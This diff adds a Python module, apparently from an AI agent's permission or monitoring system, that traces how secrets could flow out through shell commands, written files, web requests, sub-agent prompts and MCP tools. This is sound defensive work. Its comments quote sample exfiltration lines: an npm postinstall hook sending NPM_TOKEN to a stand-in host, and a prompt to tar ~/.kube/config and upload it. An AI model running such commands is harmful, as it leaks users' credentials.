@@ -1,0 +1,121 @@
+"""Every secret flow of one analysed action (issue 10 §5): `flows(a)`, which rules in `automode.rules.secrets` judge.
+
+The facts (sources, sinks, owners of credentials) live in `automode.knowledge.flows`; the shell's wiring of them in
+`automode.knowledge.flows_shell`. This module routes an action to them by tool: shell commands, written files, web
+requests, sub-agent prompts and MCP tools that post.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+
+from automode import lazyre
+from automode.effects import mcp_name
+from automode.hosts import is_local
+from automode.knowledge.flows import (
+    LOG_CALL,
+    Flow,
+    Secret,
+    _client_lines,
+    _committed,
+    _host,
+    env_secret,
+    file_service,
+    tables,
+    values,
+)
+from automode.knowledge.flows_shell import _shell_flows
+from automode.typing_lite import TYPE_CHECKING, Any
+
+if TYPE_CHECKING:
+    from automode.analysis import Analysis
+
+_LAST: list[tuple[Any, list[Flow]]] = [(None, [])]
+
+
+def flows(a: Analysis) -> list[Flow]:
+    last = _LAST[0]
+    if last[0] is a:
+        return last[1]
+    out = list(_flows(a))
+    _LAST[0] = (a, out)
+    return out
+
+
+def _flows(a: Analysis) -> Iterator[Flow]:
+    from automode.analysis import AGENT_TOOLS, FILE_WRITE_TOOLS, WEB_TOOLS
+
+    tool = a.action.tool
+    if a.shell:
+        yield from _shell_flows(a)
+    elif tool in FILE_WRITE_TOOLS:
+        yield from _write_flows(a)
+        if a.commands:
+            # what a written file runs later (an npm lifecycle script, a Makefile recipe): its flows are the action's
+            # (`"postinstall": "node -e \"…get('https://x/?u='+process.env.NPM_TOKEN)\""`, h8-0283)
+            yield from _shell_flows(a)
+    elif tool in WEB_TOOLS:
+        for e in a.effects:
+            if e.kind == "network":
+                for s in values(e.target):
+                    yield Flow(s, "url", _host(e.target))
+    elif tool in AGENT_TOOLS:
+        for e in a.effects:
+            if e.kind == "delegate":
+                prompt = e.content or ""
+                found = values(prompt)
+                publish = bool(found) and tables().publish_words.search(prompt[:20_000]) is not None
+                for s in found:
+                    yield Flow(
+                        s, "delegate-send" if publish else "delegate", "others" if publish else e.target
+                    )
+                yield from _delegated_sends(e.content or "", a)
+        if a.commands:
+            yield from _shell_flows(a)  # the commands the prompt spells out (`analysis._delegated_commands`)
+    elif tool.startswith("mcp__") or "__" in tool:
+        name = mcp_name(tool)
+        if tables().mcp_public.search(name) and not tables().mcp_read.search(name):
+            try:
+                text = json.dumps(dict(a.action.input), default=str)[:50_000]
+            except (TypeError, ValueError):
+                text = str(a.action.input)[:50_000]
+            for s in values(text):
+                yield Flow(s, "public", tool)
+
+
+PROMPT_PATH = lazyre.compile(
+    r"(?<![\w/.])((?:~|\$HOME|/home/[\w.-]+|/Users/[\w.-]+|/root)/[\w./-]+|\.env(?:\.[\w-]+)?)\b"
+)
+
+
+PROMPT_URL = lazyre.compile(r"https?://[^\s'\"<>)]+")
+
+
+def _delegated_sends(prompt: str, a: Analysis) -> Iterator[Flow]:
+    """A sub-agent told, in prose, to send credential files somewhere: `tar ~/.kube/config … upload to https://x`."""
+    from automode.paths import is_secret_path, resolve
+
+    urls = [u for u in PROMPT_URL.findall(prompt[:20_000]) if not is_local(_host(u))]
+    if not urls:
+        return
+    for m in PROMPT_PATH.finditer(prompt[:20_000]):
+        p = resolve(m.group(1), a.cwd, a.ctx.home)
+        if is_secret_path(p, a.ctx.home):
+            yield Flow(Secret(m.group(1), file_service(p), "file"), "delegate-send", _host(urls[0]))
+            return
+
+
+def _write_flows(a: Analysis) -> Iterator[Flow]:
+    for e in a.effects:
+        if e.kind != "write" or not e.content:
+            continue
+        text = e.content
+        yield from _client_lines(text)
+        if e.pclass in ("project", "protected") or (e.pclass == "secret" and _committed(e, a.root)):
+            for s in values(text):
+                yield Flow(s, "file", e.target)
+            for m in LOG_CALL.finditer(text):
+                logged = env_secret(m.group(4))
+                if logged is not None:
+                    yield Flow(logged, "log", e.target)
